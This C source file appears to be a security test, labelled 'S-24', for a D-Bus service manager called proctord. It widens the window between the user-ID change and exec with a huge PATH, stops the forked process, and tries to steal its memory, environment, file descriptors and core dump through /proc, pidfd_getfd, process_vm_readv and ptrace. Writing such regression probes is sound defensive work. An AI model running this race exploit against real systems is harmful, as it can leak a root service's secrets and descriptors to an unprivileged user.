/* SPDX-License-Identifier: LGPL-2.1-or-later */

/* S-24: a user who is after what his own processes have between the change of user and exec, when they
 * still have the memory and, for all he knows, descriptors of a service that is root. He makes that
 * time long by a search path of tens of thousands of directories, stops each process in it, and takes
 * all that the kernel gives him. Runs in the container as that user; prints how many were caught, and
 * how often something was taken. */

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <systemd/sd-bus.h>
#include <unistd.h>

#define PATH_BYTES    100000 /* all of them colons */
#define N_DESCRIPTORS 64

/* A program that is looked for in each of the directories, and in none. */
static int call(void) {
        static char path[PATH_BYTES + 1];
        sd_bus *bus;

        memset(path, ':', PATH_BYTES);
        if (sd_bus_open_system(&bus) < 0)
                return 1;
        return sd_bus_call_method(bus, "org.proctor1", "/org/proctor1", "org.proctor1.Manager",
                                  "StartProcess", NULL, NULL, "asa{sv}", 1, "no-such-program", 1,
                                  "Environment", "a{ss}", 1, "PATH", path) < 0;
}

/* Whether it is a process of the caller's that has not exec'd, because it has the service's name, and
 * whose state begins with that. */
static int is_before_exec(int pid, const char *state) {
        char file[64], text[4096], wanted[64];
        ssize_t n;
        int fd;

        snprintf(file, sizeof file, "/proc/%d/status", pid);
        fd = open(file, O_RDONLY | O_CLOEXEC);
        n = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
        close(fd);
        if (n <= 0)
                return 0;
        text[n] = 0;
        snprintf(wanted, sizeof wanted, "\nUid:\t%u\t%u\t", (unsigned)getuid(), (unsigned)getuid());
        return strncmp(text, "Name:\tproctord\n", 15) == 0 && strstr(text, wanted) &&
               strstr(text, state);
}

static int find(void) {
        DIR *dir = opendir("/proc");
        const struct dirent *entry;
        int found = 0;

        while (!found && (entry = readdir(dir)))
                if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' &&
                    is_before_exec(atoi(entry->d_name), "\nState:\t"))
                        found = atoi(entry->d_name);
        closedir(dir);
        return found;
}

/* 1 with a word on it, if that was had. */
static int taken(int had, const char *what) {
        if (had)
                printf("taken: %s\n", what);
        return had;
}

static int opens(int pid, const char *name) {
        char file[64], byte;
        int fd, n;

        snprintf(file, sizeof file, "/proc/%d/%s", pid, name);
        if (readlink(file, &byte, 1) >= 0)
                return taken(1, name);
        fd = open(file, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return 0;
        n = strcmp(name, "fd") == 0 || strcmp(name, "mem") == 0 || read(fd, &byte, 1) > 0;
        close(fd);
        return taken(n, name);
}

/* One that was about to end does so, and there is nothing to be had. */
static int stop(int pid) {
        if (kill(pid, SIGSTOP) < 0)
                return 0;
        while (is_before_exec(pid, "\nState:\t"))
                if (is_before_exec(pid, "\nState:\tT"))
                        return 1;
        return 0;
}

/* How much of it can be had. */
static int rob(int pid) {
        static const char *const files[] = {"mem",  "fd",   "environ", "exe",   "cwd",    "root",
                                            "fd/1", "auxv", "maps",    "stack", "syscall"};
        int pidfd = (int)syscall(SYS_pidfd_open, pid, 0), n = 0;
        char byte;
        struct iovec here = {&byte, 1}, there = {&byte, 1};

        for (size_t i = 0; i < sizeof files / sizeof files[0]; i++)
                n += opens(pid, files[i]);
        for (int fd = 0; fd < N_DESCRIPTORS; fd++)
                n += taken(syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0 || errno != EPERM, "getfd");
        n += taken(process_vm_readv(pid, &here, 1, &there, 1, 0) >= 0 || errno != EPERM, "memory");
        n += taken(ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0, "trace");
        close(pidfd);
        return n;
}

/* One attempt; 1 if a process was caught. */
static int attempt(int *n_taken) {
        pid_t caller = fork();
        int pid = 0, caught = 0;

        if (caller == 0)
                _exit(call());
        while (!pid && waitpid(caller, NULL, WNOHANG) == 0)
                pid = find();
        if (!pid)
                return 0;
        if (stop(pid)) {
                *n_taken += rob(pid);
                caught = is_before_exec(pid, "\nState:\tT");
        }
        kill(pid, SIGQUIT); /* whose memory would be in its core? */
        kill(pid, SIGCONT);
        waitpid(caller, NULL, 0);
        return caught;
}

int main(int argc, char **argv) {
        int wanted = argc > 1 ? atoi(argv[1]) : 1, n_caught = 0, n_taken = 0;

        for (int i = 0; i < 100 * wanted && n_caught < wanted; i++)
                n_caught += attempt(&n_taken);
        printf("caught %d taken %d\n", n_caught, n_taken);
        return 0;
}
